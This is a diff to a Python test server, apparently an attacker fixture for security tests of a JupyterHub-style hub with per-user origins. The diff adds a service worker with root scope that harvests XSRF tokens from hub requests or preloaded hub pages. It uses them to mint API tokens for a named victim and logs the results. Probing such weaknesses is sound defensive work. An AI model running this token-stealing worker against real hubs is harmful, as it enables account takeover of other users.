@@ -7,13 +7,20 @@ token) with fetch(), mint an API token for the visitor, read a hub page opened w
 window.open() or in a frame. It writes what it got into #result as JSON, and sets the
 title to "done". `?hub=<origin>` names the hub's origin (per-user origins);
 `?victim=<name>` the visitor whose token it asks for.
+
+`?worker=watch|preload` instead registers a service worker of scope `/` (its script,
+`sw.js`, is sent with `Service-Worker-Allowed: /`): `watch` reads the XSRF token of
+every request a hub page makes, `preload` reads hub pages through navigation
+preload; either mints with what it finds. The worker reports what it saw to
+`report`, listed as JSON at `reports` (`reports?clear=1` empties the list).
 """
 
 from __future__ import annotations
 
+import json
 import os
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from urllib.parse import urlsplit
+from urllib.parse import parse_qs, urlsplit
 
 PAGE = b"""<!doctype html>
 <html><head><title>evil</title></head><body><pre id="result"></pre><script>
@@ -66,7 +73,14 @@ async function readWindow(win, key) {
   }
   out[key + "_error"] = "never readable (closed: " + win.closed + ")";
 }
+async function register(mode) {
+  const script = "sw.js?victim=" + victim + "&mode=" + mode;
+  await navigator.serviceWorker.register(script, { scope: "/" });
+  await navigator.serviceWorker.ready;
+  document.title = "done";
+}
 async function main() {
+  if (params.get("worker")) return register(params.get("worker"));
   await readFetched();
   await mint(out.fetch_xsrf);
   const popup = window.open(hub + "/hub/home", "hubpopup");
@@ -87,15 +101,79 @@ main();
 """
 
 
+WORKER = b"""
+const params = new URL(self.location).searchParams;
+const victim = params.get("victim");
+const mode = params.get("mode");
+const base = new URL(".", self.location).pathname;
+const report = (data) => fetch(base + "report?data=" + encodeURIComponent(JSON.stringify(data)));
+async function steal(token, via) {
+  const r = await fetch("/hub/api/users/" + victim + "/tokens", {
+    method: "POST",
+    headers: { "Content-Type": "application/json", "X-XSRFToken": token },
+    body: JSON.stringify({ note: "stolen" }),
+  });
+  await report({ mint: r.status, via });
+}
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (event) => event.waitUntil((async () => {
+  if (mode === "preload" && self.registration.navigationPreload) {
+    await self.registration.navigationPreload.enable();
+  }
+  await self.clients.claim();
+})()));
+self.addEventListener("fetch", (event) => {
+  const url = new URL(event.request.url);
+  if (!url.pathname.startsWith("/hub/")) return;
+  if (event.request.mode === "navigate") {
+    if (mode !== "preload") return;
+    event.respondWith((async () => {
+      const preloaded = await event.preloadResponse;
+      const response = preloaded || (await fetch(event.request));
+      const text = await response.clone().text();
+      const m = /name="xsrf-token" content="([^"]+)"/.exec(text);
+      await report({ url: url.pathname, via: "navigation", preloaded: !!preloaded, token: !!m });
+      if (m) await steal(m[1], "preload");
+      return response;
+    })());
+    return;
+  }
+  const token = event.request.headers.get("X-XSRFToken");
+  event.waitUntil((async () => {
+    await report({ url: url.pathname, via: "fetch", token: !!token });
+    if (token) await steal(token, "header");
+  })());
+});
+"""
+
+REPORTS: list[object] = []
+
+
 class Handler(BaseHTTPRequestHandler):
-    """The page for any GET (the hub's readiness check included)."""
+    """The page for any GET (the hub's readiness check included); the worker, its
+    reports."""
 
     def do_GET(self) -> None:
+        url = urlsplit(self.path)
+        body, kind, extra = PAGE, "text/html", {}
+        if url.path.endswith("/sw.js"):
+            body, kind = WORKER, "text/javascript"
+            extra = {"Service-Worker-Allowed": "/"}
+        elif url.path.endswith("/report"):
+            REPORTS.append(json.loads(parse_qs(url.query)["data"][0]))
+            body, kind = b"{}", "application/json"
+        elif url.path.endswith("/reports"):
+            body, kind = json.dumps(REPORTS).encode(), "application/json"
+            if "clear" in parse_qs(url.query):
+                REPORTS.clear()
         self.send_response(200)
-        self.send_header("Content-Type", "text/html")
-        self.send_header("Content-Length", str(len(PAGE)))
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.send_header("Cache-Control", "no-store")
+        for name, value in extra.items():
+            self.send_header(name, value)
         self.end_headers()
-        self.wfile.write(PAGE)
+        self.wfile.write(body)
 
     def log_message(self, format: str, *args: object) -> None:
         """Silent."""
